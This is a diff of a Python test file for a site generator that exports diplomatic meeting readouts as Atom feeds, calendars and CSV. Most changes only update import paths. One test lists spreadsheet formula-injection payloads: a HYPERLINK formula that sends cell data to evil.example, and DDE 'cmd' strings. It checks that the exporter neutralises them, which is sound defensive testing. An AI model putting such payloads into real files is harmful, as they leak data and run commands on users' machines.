@@ -26,7 +26,10 @@ from readouts.load import load_corpus
 from readouts.model import KINDS, BlockKind, SiteGraph
 from readouts.publishers import PUBLISHERS
 from readouts.render import exports, urls
-from readouts.render.exports import CSV_COLUMNS, write_exports
+from readouts.render.exports import Fragments, write_exports
+from readouts.render.exports.common import CSV_COLUMNS
+from readouts.render.exports.feeds import _entered_newest_first, atom_feed
+from readouts.render.exports.ics import meetings_calendar_file
 from tests.conftest import copy_demo_site
 
 REPO = Path(__file__).resolve().parents[2]
@@ -170,7 +173,7 @@ def test_a_readout_that_entered_later_comes_first_whatever_its_date(demo_graph: 
     later = dataclasses.replace(record, entered=record.entered + dt.timedelta(hours=1))
     readout = dataclasses.replace(demo_graph.readouts[UNDATED_SEED], imported=later)
     graph = dataclasses.replace(demo_graph, readouts={**demo_graph.readouts, UNDATED_SEED: readout})
-    feed = ET.fromstring(exports.atom_feed(graph, urls.FEED, exports._entered_newest_first(graph, graph.chronology)))
+    feed = ET.fromstring(atom_feed(graph, urls.FEED, _entered_newest_first(graph, graph.chronology)))
     assert _entry_ids(feed)[0] == f"urn:readouts:japan-russia-readouts:{UNDATED_SEED}"
     assert feed.findtext(f"{ATOM}updated") == _entered(graph, UNDATED_SEED)
 
@@ -420,7 +423,7 @@ def test_a_calendar_event_is_stamped_when_its_newest_account_entered_the_archive
 def test_a_calendar_without_base_url_has_no_address_to_follow_and_one_with_it_has_full_ones(tmp_path: Path) -> None:
     for base_url in (None, BASE_URL):
         graph = _small_site(tmp_path / str(bool(base_url)), base_url)
-        events = icalendar.Calendar.from_ical(exports.meetings_calendar_file(graph, exports.Fragments(None)).make())
+        events = icalendar.Calendar.from_ical(meetings_calendar_file(graph, Fragments(None)).make())
         urls_found = [e.get("url") for e in events.walk("VEVENT")]
         assert urls_found
         if base_url:
@@ -436,7 +439,7 @@ def test_a_telephone_talk_is_named_by_who_talked_and_how(tmp_path: Path) -> None
     call = _readout("call", "Telephone talk", "2021-02-03").replace("  place: Tokyo\n", "  format: telephone\n")
     (root / "content" / "readouts" / "call.md").write_text(call, encoding="utf-8")
     graph = link(load_corpus(root))
-    calendar = icalendar.Calendar.from_ical(exports.meetings_calendar_file(graph, exports.Fragments(None)).make())
+    calendar = icalendar.Calendar.from_ical(meetings_calendar_file(graph, Fragments(None)).make())
     summaries = {str(e.get("dtstart").dt): str(e.get("summary")) for e in calendar.walk("VEVENT")}
     assert summaries["2021-02-03"] == "Lavrov – Kono: telephone talk", summaries
 
@@ -476,7 +479,7 @@ def test_two_builds_write_the_same_bytes(built_demo: Path, tmp_path: Path) -> No
 @pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                    "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1"])
 def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
-    from readouts.render.exports import _csv_line
+    from readouts.render.exports.data import _csv_line
 
     cells = next(csv.reader(io.StringIO(_csv_line(["id", value, 5]).decode("utf-8"), newline="")))
     assert cells == ["id", "'" + value, "5"]
